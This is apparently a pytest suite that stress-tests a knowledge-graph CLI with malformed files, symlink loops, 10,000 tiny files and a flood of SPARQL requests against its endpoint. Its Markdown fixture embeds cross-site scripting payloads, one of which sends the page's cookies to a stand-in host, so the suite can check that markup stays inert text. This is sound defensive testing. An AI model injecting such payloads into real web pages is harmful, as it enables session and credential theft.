"""A hostile corpus and a flood of queries, against the real `kg` command.

The corpus is made at test time (no 10 MB file is committed): a Markdown page full of HTML and script (a valid
document: it loads, and its markup stays text), a 10 MB document, an empty file, NUL bytes, Windows-1252 text, a
folder whose only way on is a symbolic link to its parent (and two links to each other), and 10,000 tiny files.
For each bad input:

- `kg add BAD VALID` into a store that holds a document already: one `kg: error: skipped ...` line per refused
  file, the valid document added, exit status 2, the store as before plus the valid document;
- `kg add BAD`: one `kg: error:` line, exit 2, the store unchanged (and no store made where there was none);
- `kg build GOOD BAD`: one `kg: error:` line, exit 2, the previous store and the previous export untouched
  (the export byte for byte), nothing left behind.

No command prints a traceback. Then `kg serve` takes 1,000 queries from another process (valid, malformed,
updates, results over the row cap, bad requests) and still answers, unchanged and no bigger, and cuts off a
query that would run for ever.
"""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import sys
import time
import urllib.error
import urllib.parse
import urllib.request
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pyoxigraph as ox
import pytest
from helpers import ROOT, interrupt, kg, kg_env

from kg.graph.store import Store
from kg.text.read import MAX_DOCUMENT_BYTES

SEEDS = ROOT / "seeds"
ID = "https://w3id.org/kg/id/"
KG = "https://w3id.org/kg/ontology#"
PROV_GENERATED = "http://www.w3.org/ns/prov#generatedAtTime"

FIRST = "Kettering Trust minutes\n\nTom Ashdown met Clara Venn in Kettering. Home Secretary Clara Venn commissioned the Harrow Review.\n"
SECOND = "Corby notes\n\nNadia Okafor met Gareth Mullins in Oundle.\n"
PAGE = """# Minutes of the Corby Trust <script>alert("title")</script>

<p>Tom Ashdown met <b>Clara Venn</b> in Kettering.</p>
<script>document.location = "https://example.invalid/?c=" + document.cookie</script>
<img src=x onerror="alert(1)"> Home Secretary Ruth Pellow commissioned the Harrow Review. <!-- a comment -->
"""
MANY = 10_000
MANY_VALID_EVERY = 50  # 200 of the 10,000 tiny files are documents; the rest are refused, four ways
TINY_REFUSED = [  # (content, why kg refuses it)
    (b"", "empty document"),
    (b"Tom\x00Ashdown", "binary file, not a text document"),
    (b"caf\xe9", "not UTF-8 at byte 3"),
    (b" \n\t\n", "empty document"),
]


def quads(store: Path, *, load_times: bool = True) -> set[str]:
    with Store(store, read_only=True) as s:
        return {str(q) for q in s.quads() if load_times or q.predicate.value != PROV_GENERATED}


def documents(store: Path) -> list[str]:
    with Store(store, read_only=True) as s:
        return sorted(d.name.rsplit("/", 1)[-1] for d in s.documents())  # file names


def value(term: object) -> str:
    """An IRI's or a literal's text ("" for the default graph)."""
    return term.value if isinstance(term, ox.NamedNode | ox.BlankNode | ox.Literal) else ""


def no_traceback(result: subprocess.CompletedProcess[str]) -> None:
    assert "Traceback" not in result.stderr + result.stdout, result.stderr[-3000:]


# ---------------------------------------------------------------------------------------------- the corpus


def make_big(folder: Path) -> tuple[str, str]:
    with (folder / "big.txt").open("w", encoding="utf-8") as f:
        line = "Tom Ashdown met Clara Venn in Kettering. " * 24 + "\n"
        f.write(line * (10 * 1024 * 1024 // len(line) + 1))
    size = (folder / "big.txt").stat().st_size
    assert size >= 10 * 1024 * 1024
    return (
        "big.txt",
        f"big.txt: {size:,} bytes, over kg's limit of {MAX_DOCUMENT_BYTES:,} bytes a document: split it",
    )


def make_empty(folder: Path) -> tuple[str, str]:
    (folder / "empty.txt").write_bytes(b"")
    return "empty.txt", "empty.txt: empty document"


def make_nul(folder: Path) -> tuple[str, str]:
    (folder / "nul.txt").write_bytes(b"Tom Ashdown met\x00Clara Venn\x00\x00 in Kettering.\n")
    return "nul.txt", "nul.txt: binary file, not a text document"


def make_cp1252(folder: Path) -> tuple[str, str]:
    (folder / "cp1252.txt").write_bytes(b"caf\xe9 \x93quoted\x94 \x96 Tom Ashdown met Clara Venn.\n")
    return "cp1252.txt", "cp1252.txt: not UTF-8 at byte 3"


def make_loop(folder: Path) -> tuple[str, str]:
    """A folder whose only way on is a link back to it, beside two links that point at each other."""
    inner = folder / "loop" / "inner"
    inner.mkdir(parents=True)
    (inner / "up").symlink_to("..", target_is_directory=True)
    (inner / "a.txt").symlink_to("b.txt")
    (inner / "b.txt").symlink_to("a.txt")
    return "loop", "loop: no documents (.txt, .md, .html, .htm, .pdf)"


def make_many(folder: Path) -> tuple[str, str]:
    many = folder / "many"
    many.mkdir()
    for i in range(MANY):
        if i % MANY_VALID_EVERY == 0:
            data = f"Note {i}\n\nIvo Brant{i} spoke in Thrapston.\n".encode()
        else:
            data = TINY_REFUSED[i % len(TINY_REFUSED)][0]
        (many / f"n{i:05d}.txt").write_bytes(data)
    return "many", "many/n00001.txt: binary file, not a text document"


HOSTILE: dict[str, Callable[[Path], tuple[str, str]]] = {
    "10MB": make_big,
    "empty": make_empty,
    "NUL": make_nul,
    "cp1252": make_cp1252,
    "symlink-loop": make_loop,
    "10000-files": make_many,
}


@dataclass
class Base:
    """A store holding one document (`store/`), a built store and its export (`built/`, `exports/graph.ttl`),
    and the store the valid second document makes when added to the first (`reference/`)."""

    root: Path

    @property
    def store(self) -> Path:
        return self.root / "store"


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory) -> Base:
    root = tmp_path_factory.mktemp("base")
    (root / "good").mkdir()
    (root / "good" / "first.txt").write_text(FIRST, encoding="utf-8")
    (root / "new").mkdir()
    (root / "new" / "second.txt").write_text(SECOND, encoding="utf-8")
    for args in (
        ["add", "good/first.txt", "--store", "store"],
        ["build", "good", "-o", "exports/graph.ttl", "--store", "built"],
    ):
        result = kg(*args, cwd=root)
        assert result.returncode == 0, result.stderr
    shutil.copytree(root / "store", root / "reference")
    result = kg("add", "new/second.txt", "--store", "reference", cwd=root)
    assert result.returncode == 0, result.stderr
    return Base(root)


@pytest.fixture
def work(base: Base, tmp_path: Path) -> Path:
    """A fresh copy of the base to spoil."""
    folder = tmp_path / "work"
    shutil.copytree(base.root, folder, symlinks=True)
    return folder


@pytest.mark.parametrize("case", list(HOSTILE))
def test_bad_input_is_refused_clearly_and_leaves_store_and_exports_intact(
    base: Base, work: Path, case: str
) -> None:
    bad, message = HOSTILE[case](work)
    many = case == "10000-files"
    before = quads(work / "store")
    built = quads(work / "built")
    exported = (work / "exports" / "graph.ttl").read_bytes()
    exported_stat = (work / "exports" / "graph.ttl").stat()

    # kg add BAD VALID: the bad ones skipped with a line each, the valid ones added, exit 2
    result = kg("add", bad, "new/second.txt", "--store", "store", cwd=work)
    no_traceback(result)
    assert result.returncode == 2, result.stderr[-2000:]
    lines = result.stderr.splitlines()
    refused = MANY - MANY // MANY_VALID_EVERY if many else 1
    added = MANY // MANY_VALID_EVERY + 1 if many else 1
    assert lines[-2:] == [
        f"kg: {added} added, 0 replaced, 0 unchanged -> store",
        f"kg: error: {refused} of the documents given were refused (each named above); the others were added",
    ]
    skipped = lines[:-2]
    assert len(skipped) == refused
    assert all(line.startswith("kg: error: skipped ") for line in skipped), skipped[:5]
    assert f"kg: error: skipped {message}" in skipped
    after = quads(work / "store")
    assert before <= after  # nothing of what the store held was lost or changed
    if many:
        assert documents(work / "store") == sorted(
            ["first.txt", "second.txt", *(f"n{i:05d}.txt" for i in range(0, MANY, MANY_VALID_EVERY))]
        )
        reasons = Counter(line.split(": ", 3)[-1] for line in skipped)
        assert reasons == Counter(
            TINY_REFUSED[i % len(TINY_REFUSED)][1] for i in range(MANY) if i % MANY_VALID_EVERY
        )
    else:
        # exactly what adding the valid document alone gives
        assert {q for q in after if PROV_GENERATED not in q} == quads(work / "reference", load_times=False)

    # kg add BAD alone: one line, exit 2, nothing changes
    if not many:
        shutil.rmtree(work / "store")
        shutil.copytree(base.store, work / "store")
        result = kg("add", bad, "--store", "store", cwd=work)
        no_traceback(result)
        assert (result.returncode, result.stderr) == (2, f"kg: error: {message}\n")
        assert quads(work / "store") == before
        result = kg("add", bad, "--store", "fresh", cwd=work)
        assert (result.returncode, result.stderr) == (2, f"kg: error: {message}\n")
        assert not (work / "fresh").exists()

    # kg build GOOD BAD: the whole build refused, the previous store and export as they were
    result = kg("build", "good", bad, "-o", "exports/graph.ttl", "--store", "built", cwd=work)
    no_traceback(result)
    assert (result.returncode, result.stderr) == (2, f"kg: error: {message}\n")
    assert (work / "exports" / "graph.ttl").read_bytes() == exported
    assert (work / "exports" / "graph.ttl").stat().st_mtime_ns == exported_stat.st_mtime_ns
    assert quads(work / "built") == built
    assert sorted(p.name for p in (work / "exports").iterdir()) == ["graph.ttl"]  # no temporary file left
    assert not [p.name for p in work.iterdir() if p.name.startswith("built.")]  # no staging store left


def test_html_and_script_in_a_document_load_as_text(work: Path) -> None:
    (work / "page.md").write_text(PAGE, encoding="utf-8")
    result = kg("add", "page.md", "--store", "store", cwd=work)
    no_traceback(result)
    assert (result.returncode, result.stderr) == (0, "kg: 1 added, 0 replaced, 0 unchanged -> store\n")
    page = f"{ID}document/page.md"
    with Store(work / "store", read_only=True) as store:
        mine = [
            (value(q.subject), q.predicate.value, value(q.object))
            for q in store.quads()
            if value(q.graph_name) == page
        ]
    title = {o for _, p, o in mine if p == "http://purl.org/dc/terms/title"}
    assert title == {'Minutes of the Corby Trust <script>alert("title")</script>'}
    evidence: dict[str, dict[str, str]] = {}
    for s, p, o in mine:
        if p in (f"{KG}quote", f"{KG}start", f"{KG}end"):
            evidence.setdefault(s, {})[p[len(KG) :]] = o
    assert evidence
    for e in evidence.values():  # every quote is the document's own text, markup and all
        assert PAGE[int(e["start"]) : int(e["end"])] == e["quote"]
    assert any('<img src=x onerror="alert(1)">' in e["quote"] for e in evidence.values())
    # and it stays text: the viewer and every export write it as data
    for output in ("graph.html", "graph.graphml", "graph.csv", "graph.jsonld"):
        command = "viz" if output.endswith(".html") else "export"
        result = kg(command, "--store", "store", "-o", output, cwd=work)
        assert result.returncode == 0, result.stderr
    html = (work / "graph.html").read_text(encoding="utf-8")
    assert "<img src=x" not in html and '<script>alert("title")' not in html
    assert kg("validate", "--store", "store", cwd=work).returncode == 0


def test_symbolic_link_loops_end_and_the_documents_beside_them_load(work: Path) -> None:
    make_loop(work)
    (work / "loop" / "inner" / "third.txt").write_text(SECOND, encoding="utf-8")
    (work / "loop" / "to-self").symlink_to("to-self")
    for command in (["add", "loop", "--store", "store"], ["build", "loop", "-o", "loop.ttl", "--store", "b"]):
        result = kg(*command, cwd=work, timeout=120)
        no_traceback(result)
        assert result.returncode == 0, result.stderr
    assert documents(work / "store") == ["first.txt", "third.txt"]
    assert documents(work / "b") == ["third.txt"]
    # named on the command line, a link loop is refused with one line
    result = kg("add", "loop/to-self", "--store", "store", cwd=work)
    assert (result.returncode, result.stderr) == (2, "kg: error: loop/to-self: not a file or folder\n")


# ---------------------------------------------------------------------------------------------- the endpoint

#: The perpetrators the seed names.
PERPETRATORS = (
    "SELECT DISTINCT ?name WHERE { ?i a kg:Incident ; kg:perpetrator/rdfs:label ?name } ORDER BY ?name"
)
KILLERS = ["Ali Harbi Ali", "Khairi Saadallah", "Usman Khan"]
#: A cross product of the store with itself, four times over: it would run for hours.
ENDLESS = "SELECT (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l }"
FLOOD = 1_000
FLOOD_GUARD = 600  # seconds: only stops a flood that would never end (its speed is bench/run.py's flood)
MAX_ROWS = 50
TIMEOUT = 2.0
KG_SERVE = [
    sys.executable,
    "-m",
    "kg.cli",
    "serve",
    "--port",
    "0",
    "--quiet",
]  # stderr is read once: no query log

#: The client, run as another process: FLOOD requests from 4 threads, a mix of valid queries, malformed ones,
#: updates three ways, results over the row cap and bad requests. It prints, per kind, the statuses it got and
#: how many valid answers were wrong. Each request waits at most 60 s for its answer, which only stops a wait for
#: ever (a request not answered counts as its error's name, never as a status).
CLIENT = r"""
import collections, http.client, json, sys, threading, urllib.parse
from concurrent.futures import ThreadPoolExecutor

port, total, perpetrators, killers = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3], json.loads(sys.argv[4])
form = {"Content-Type": "application/x-www-form-urlencoded"}
insert = 'INSERT DATA { <https://w3id.org/kg/id/person/x> <http://www.w3.org/2000/01/rdf-schema#label> "flood" }'
KINDS = [
    ("select", "GET", "/sparql?" + urllib.parse.urlencode({"query": perpetrators}), None, {}),
    ("select-post", "POST", "/sparql", urllib.parse.urlencode({"query": perpetrators}), form),
    ("ask", "POST", "/sparql", "ASK { ?s a kg:Person }", {"Content-Type": "application/sparql-query"}),
    ("malformed", "GET", "/sparql?" + urllib.parse.urlencode({"query": "SELEC ?x WHERE { ?x"}), None, {}),
    ("update-param", "POST", "/sparql", urllib.parse.urlencode({"update": insert}), form),
    ("update-as-query", "GET", "/sparql?" + urllib.parse.urlencode({"query": insert}), None, {}),
    ("update-body", "POST", "/sparql", insert, {"Content-Type": "application/sparql-update"}),
    ("over-cap", "GET", "/sparql?" + urllib.parse.urlencode({"query": "SELECT * WHERE { ?s ?p ?o }"}), None, {}),
    ("not-found", "GET", "/nowhere", None, {}),
    ("no-query", "GET", "/sparql", None, {}),
    ("huge-body", "POST", "/sparql", None, {**form, "Content-Length": str(2 << 20)}),
]
statuses = collections.defaultdict(collections.Counter)
wrong = collections.Counter()
lock = threading.Lock()

def one(i):
    kind, method, path, body, headers = KINDS[i % len(KINDS)]
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=60)
    try:
        if kind == "huge-body":  # a body announced over the cap, never sent
            connection.putrequest(method, path)
            for k, v in headers.items():
                connection.putheader(k, v)
            connection.endheaders()
        else:
            connection.request(method, path, body=body, headers={"Accept": "application/sparql-results+json", **headers})
        response = connection.getresponse()
        data = response.read()
        status = response.status
        if status == 200 and kind.startswith("select"):
            names = [b["name"]["value"] for b in json.loads(data)["results"]["bindings"]]
            if names != killers:
                with lock:
                    wrong[kind] += 1
    except Exception as e:
        status = type(e).__name__
    finally:
        connection.close()
    with lock:
        statuses[kind][str(status)] += 1

with ThreadPoolExecutor(4) as pool:
    list(pool.map(one, range(total)))
print(json.dumps({"statuses": statuses, "wrong": wrong}))
"""
EXPECTED = {
    "select": "200",
    "select-post": "200",
    "ask": "200",
    "malformed": "400",
    "update-param": "403",
    "update-as-query": "403",
    "update-body": "403",
    "over-cap": "413",
    "not-found": "404",
    "no-query": "400",
    "huge-body": "413",
}


@dataclass
class Serving:
    proc: subprocess.Popen[str]
    host: str
    port: int

    def get(self, query: str, timeout: float = 60) -> tuple[int, bytes]:
        url = f"http://{self.host}:{self.port}/sparql?" + urllib.parse.urlencode({"query": query})
        request = urllib.request.Request(url, headers={"Accept": "application/sparql-results+json"})
        try:
            with urllib.request.urlopen(request, timeout=timeout) as response:
                return response.status, response.read()
        except urllib.error.HTTPError as e:
            with e:
                return e.code, e.read()


@pytest.fixture(scope="module")
def seed_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("flood")
    result = kg("add", str(SEEDS), "--store", "store", "--root", str(ROOT), cwd=folder)
    assert result.returncode == 0, result.stderr
    return folder


@pytest.fixture
def serving(seed_store: Path) -> Iterator[Serving]:
    proc = subprocess.Popen(
        [*KG_SERVE, "--store", "store", "--max-rows", str(MAX_ROWS), "--timeout", str(TIMEOUT)],
        cwd=seed_store,
        env=kg_env(),
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        assert proc.stderr is not None
        line = proc.stderr.readline()  # the server says where it listens, then nothing until it stops
        m = re.fullmatch(
            r"kg: serving store at http://([^:/]+):(\d+)/sparql \(query page at /\); Ctrl-C stops\n", line
        )
        assert m is not None, line
        yield Serving(proc, m[1], int(m[2]))
    finally:
        interrupt(proc)
        if proc.stderr is not None:
            proc.stderr.close()


def resident_kb(pid: int) -> int:
    status = Path(f"/proc/{pid}/status").read_text()
    m = re.search(r"^VmRSS:\s+(\d+) kB", status, re.MULTILINE)
    assert m is not None
    return int(m[1])


def children(pid: int) -> list[str]:
    """The processes whose parent is `pid` (zombies too): their pid, state and command."""
    found = []
    for stat in Path("/proc").glob("[0-9]*/stat"):
        try:
            fields = stat.read_text().rsplit(")", 1)[1].split()
        except (OSError, IndexError):
            continue  # it ended while we looked
        if int(fields[1]) == pid:
            found.append(f"{stat.parent.name} {fields[0]}")
    return found


def no_children_left(pid: int) -> None:
    deadline = time.monotonic() + 10
    while children(pid) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert children(pid) == []


@pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="reads memory and processes from /proc")
def test_a_flood_of_queries_leaves_the_endpoint_answering_unchanged_and_no_bigger(
    seed_store: Path, serving: Serving
) -> None:
    assert serving.host == "127.0.0.1"  # loopback by default
    before = quads(seed_store / "store")
    for _ in range(20):  # warm up: the server's own memory settles after its first requests
        assert serving.get(PERPETRATORS)[0] == 200
    rss = resident_kb(serving.proc.pid)

    client = subprocess.run(
        [
            sys.executable,
            "-c",
            CLIENT,
            str(serving.port),
            str(FLOOD),
            PERPETRATORS,
            json.dumps(KILLERS),
        ],
        capture_output=True,
        text=True,
        timeout=FLOOD_GUARD,
    )
    assert client.returncode == 0, client.stderr
    report = json.loads(client.stdout)
    statuses = {kind: dict(counts) for kind, counts in report["statuses"].items()}
    assert sum(sum(c.values()) for c in statuses.values()) == FLOOD, report
    assert statuses == {
        kind: {status: len(range(i, FLOOD, len(EXPECTED)))}
        for i, (kind, status) in enumerate(EXPECTED.items())
    }, report
    assert report["wrong"] == {}

    # still answering, right, and unchanged
    status, body = serving.get(PERPETRATORS)
    assert status == 200
    assert [b["name"]["value"] for b in json.loads(body)["results"]["bindings"]] == KILLERS
    assert quads(seed_store / "store") == before
    assert serving.proc.poll() is None
    # no bigger than before the flood, give or take, and no query process left behind
    assert resident_kb(serving.proc.pid) < 2 * rss
    no_children_left(serving.proc.pid)

    # a query that would run for ever is cut off at the time limit: the answer says so, its process is gone
    status, body = serving.get(ENDLESS)
    assert status == 503, body
    assert body.decode() == f"query cut off after {TIMEOUT:g} s (the limit of this endpoint)\n"
    no_children_left(serving.proc.pid)
    status, body = serving.get("ASK { ?s a kg:Person }")
    assert (status, json.loads(body)) == (200, {"head": {}, "boolean": True})
